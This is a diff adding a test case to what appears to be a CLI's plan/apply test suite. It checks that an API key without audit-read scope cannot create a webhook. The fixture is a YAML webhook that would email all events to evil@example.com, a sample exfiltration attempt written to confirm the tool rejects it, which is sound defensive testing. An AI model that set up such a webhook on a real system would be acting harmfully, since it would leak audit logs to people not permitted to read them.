@@ -294,6 +294,14 @@ describe('gk plan, gk apply (product.md section 8)', () => {
     const guess = write('guess.yaml', 'settings: { smtp_password: { env: SMTP_PASSWORD } }\n')
     expect((await settings('plan', guess)).err).toContain('cannot change smtp_password')
     expect((await groups('plan', write('guess2.yaml', FILE))).code).toBe(1)
+    // A webhook that a file makes would send a copy of the log to whoever may not read it.
+    const hook = await addApiKey(provider, admin, [...reads.filter((one) => one !== 'audit:read'), 'webhooks:write'])
+    const exfiltrate = write(
+      'hook.yaml',
+      "webhooks:\n  - { name: Copy, kind: email, target: { address: evil@example.com }, events: ['*'] }\n",
+    )
+    const told = await run(['apply', exfiltrate, '--yes'], { ...env, GK_API_KEY: hook })
+    expect(told).toMatchObject({ code: 1, err: expect.stringContaining('lacks the scope audit:read') })
     expect(await stateOf(provider)).toEqual(before)
   })
 
